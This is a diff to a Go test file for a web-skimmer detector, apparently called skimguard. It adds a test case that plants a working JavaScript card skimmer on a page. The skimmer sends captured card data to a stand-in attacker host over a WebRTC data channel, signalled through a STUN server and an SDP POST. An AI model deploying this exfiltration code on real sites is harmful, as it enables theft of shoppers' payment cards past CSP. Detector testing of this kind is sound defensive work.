@@ -30,6 +30,11 @@ type technique struct {
 	want, anyOf []skimguard.Kind
 	// subjects must each appear in some finding's subject.
 	subjects []string
+	// shopper, for a skimmer that sends only where WebRTC may send UDP:
+	// each planted check first has a shopper's own browser load the page
+	// and type the card, and the attacker must receive it over a data
+	// channel (skimguard's browser sends no UDP around its egress proxy).
+	shopper bool
 	// initiators must each appear in some finding's evidence initiator
 	// (a worker, "worker https://shop/w.js").
 	initiators []string
@@ -525,6 +530,29 @@ self.addEventListener('fetch', function (e) {
 			},
 			want:     []skimguard.Kind{skimguard.KindScriptChanged, skimguard.KindScriptAdded, skimguard.KindDataExfiltration},
 			subjects: []string{"/sw.js", "/sw-inject.js", "127.0.0.4"},
+		},
+		{
+			name: "webrtc-datachannel", threat: "WebRTC data channel exfiltration, past CSP and the network log (Sansec, Dec 2021 and 2026)",
+			base: direct,
+			plant: func(p *page) {
+				host := strings.TrimPrefix(p.Evil, "http://")
+				host = host[:strings.LastIndexByte(host, ':')]
+				p.Body = script(`var rtc = { q: null, open: false }; (function () {
+  var pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:` + host + `:3478' }] });
+  rtc.dc = pc.createDataChannel('c');
+  rtc.dc.onopen = function () { rtc.open = true; if (rtc.q) rtc.dc.send(rtc.q); };
+  pc.createOffer().then(function (o) { return pc.setLocalDescription(o); })
+    .then(function () { return fetch('` + p.EvilBase + `/rtc', { method: 'POST', body: pc.localDescription.sdp }); })
+    .then(function (r) { return r.text(); }).then(function (a) { return pc.setRemoteDescription({ type: 'answer', sdp: a }); });
+})();` + skim(`rtc.q = btoa(s); if (rtc.open) rtc.dc.send(rtc.q); sent = true;`))
+			},
+			// In skimguard's browser the channel never opens: what proves
+			// the skimmer ran there is its offer reaching the attacker; a
+			// shopper's browser proves it sends the card.
+			shopper:  true,
+			fires:    fireRequest,
+			want:     []skimguard.Kind{skimguard.KindScriptAdded, skimguard.KindConnectionAdded},
+			subjects: []string{"stun://" + "127.0.0.4:3478"},
 		},
 	}
 }
